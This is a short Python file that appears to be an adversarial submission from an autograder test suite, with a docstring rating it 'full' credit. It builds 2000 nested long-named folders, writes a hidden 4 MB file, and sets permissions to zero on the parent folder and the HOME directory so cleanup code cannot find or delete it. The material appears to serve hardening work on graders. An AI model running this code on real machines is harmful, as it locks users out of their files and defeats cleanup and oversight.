"""Tries: hide files in folders so deep that code that counts or removes them cannot name them, and lock them.

Deserves: full
Base: solution
Control: none, because only what empties the folder is attacked
"""

import os

try:
    for _ in range(2000):
        os.mkdir("autograder-attack-" + 100 * "x")
        os.chdir("autograder-attack-" + 100 * "x")
except OSError:
    pass
try:
    with open("hidden", "wb") as file:
        file.write(bytes(4 << 20))
    os.chmod("..", 0)
    os.chmod(os.environ["HOME"], 0)
except OSError:
    pass
